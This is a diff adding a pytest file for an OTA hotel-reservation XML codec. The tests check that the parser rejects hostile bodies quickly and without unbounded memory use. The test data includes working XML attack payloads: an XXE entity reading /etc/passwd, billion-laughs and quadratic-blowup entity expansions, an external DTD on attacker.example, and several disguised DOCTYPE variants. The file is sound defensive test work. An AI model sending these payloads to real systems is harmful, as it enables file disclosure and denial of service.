@@ -1,0 +1,117 @@
+"""XML attacks and broken bodies: each is a MalformedMessage, fast and with bounded memory."""
+
+from __future__ import annotations
+
+import time
+
+import psutil
+import pytest
+
+from connectors.ota.codec import read_request
+from connectors.ota.errors import MalformedMessage, MessageTooLarge
+
+MAX_BYTES = 1024 * 1024
+
+XXE_FILE = b"""<?xml version="1.0"?>
+<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
+<OTA_HotelResNotifRQ xmlns="http://www.opentravel.org/OTA/2003/05">&xxe;</OTA_HotelResNotifRQ>"""
+
+BILLION_LAUGHS = (
+    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
+    + b"".join(
+        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
+        for i in range(1, 10)
+    )
+    + b"]><lolz>&lol9;</lolz>"
+)
+
+EXTERNAL_DTD = (
+    b'<?xml version="1.0"?><!DOCTYPE OTA_HotelResNotifRQ SYSTEM "http://attacker.example/x.dtd">'
+    b'<OTA_HotelResNotifRQ xmlns="http://www.opentravel.org/OTA/2003/05"/>'
+)
+
+QUADRATIC_BLOWUP = (
+    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "' + b"A" * 50_000 + b'">]><r>'
+    + b"&a;" * 10_000
+    + b"</r>"
+)
+
+DOCTYPE_AFTER_COMMENT_AND_PI = (
+    b'<?xml version="1.0"?><!-- partner --><?pi x?>\n<!DOCTYPE r [<!ENTITY e "x">]><r>&e;</r>'
+)
+
+DOCTYPE_UTF16 = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY e "x">]><r>&e;</r>'.encode(
+    "utf-16"
+)
+
+# past the prolog scan window: the check of the parsed document's DOCTYPE must catch it
+DOCTYPE_AFTER_LONG_PROLOG = (
+    b"<!--" + b"x" * 70_000 + b'-->\n<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>'
+)
+
+DEEP_NESTING = b"<a>" * 5000 + b"</a>" * 5000
+
+TRUNCATED = b'<?xml version="1.0"?><OTA_HotelResNotifRQ xmlns="http://www.opentravel.org/OTA/2003/05"><Hotel'
+
+NOT_XML = b'{"HotelReservations": []}'
+
+BINARY = bytes(range(256)) * 4
+
+ATTACKS = {
+    "xxe_file_entity": XXE_FILE,
+    "billion_laughs": BILLION_LAUGHS,
+    "external_dtd": EXTERNAL_DTD,
+    "quadratic_blowup": QUADRATIC_BLOWUP,
+    "doctype_after_comment_and_pi": DOCTYPE_AFTER_COMMENT_AND_PI,
+    "doctype_in_utf16": DOCTYPE_UTF16,
+    "doctype_after_long_prolog": DOCTYPE_AFTER_LONG_PROLOG,
+    "nesting_5000_deep": DEEP_NESTING,
+    "truncated_xml": TRUNCATED,
+    "not_xml": NOT_XML,
+    "binary": BINARY,
+    "empty": b"",
+    "whitespace_only": b"  \n ",
+}
+
+
+@pytest.mark.parametrize("body", list(ATTACKS.values()), ids=list(ATTACKS))
+def test_given_hostile_or_broken_body_when_read_then_malformed_message_fast(body: bytes) -> None:
+    started = time.process_time()
+    with pytest.raises(MalformedMessage) as caught:
+        read_request(body, max_bytes=MAX_BYTES)
+    assert time.process_time() - started < 0.5
+    assert (caught.value.ota_type, caught.value.ota_code) == (7, 450)
+
+
+@pytest.mark.parametrize("body", [XXE_FILE, BILLION_LAUGHS, QUADRATIC_BLOWUP, DEEP_NESTING])
+def test_given_attack_repeated_when_read_then_memory_stays_bounded(body: bytes) -> None:
+    process = psutil.Process()
+    before = process.memory_info().rss
+    for _ in range(200):
+        with pytest.raises(MalformedMessage):
+            read_request(body, max_bytes=MAX_BYTES)
+    assert process.memory_info().rss - before < 50 * 1024 * 1024
+
+
+def test_given_10_mb_body_when_read_then_too_large_before_parsing() -> None:
+    body = b"<a>" + b"x" * (10 * 1024 * 1024) + b"</a>"
+    started = time.process_time()
+    with pytest.raises(MessageTooLarge, match="over the limit"):
+        read_request(body, max_bytes=MAX_BYTES)
+    assert time.process_time() - started < 0.1
+
+
+def test_given_xxe_when_read_then_file_content_never_appears() -> None:
+    with pytest.raises(MalformedMessage) as caught:
+        read_request(XXE_FILE, max_bytes=MAX_BYTES)
+    assert "root:" not in caught.value.message
+
+
+def test_given_5000_deep_nesting_when_read_then_refused_by_depth_limit() -> None:
+    with pytest.raises(MalformedMessage, match="depth"):
+        read_request(DEEP_NESTING, max_bytes=MAX_BYTES)
+
+
+def test_given_comment_mentioning_doctype_inside_root_when_read_then_accepted() -> None:
+    body = b'<r xmlns="http://www.opentravel.org/OTA/2003/05"><!-- <!DOCTYPE x> --></r>'
+    assert read_request(body, max_bytes=MAX_BYTES).message_name == "r"
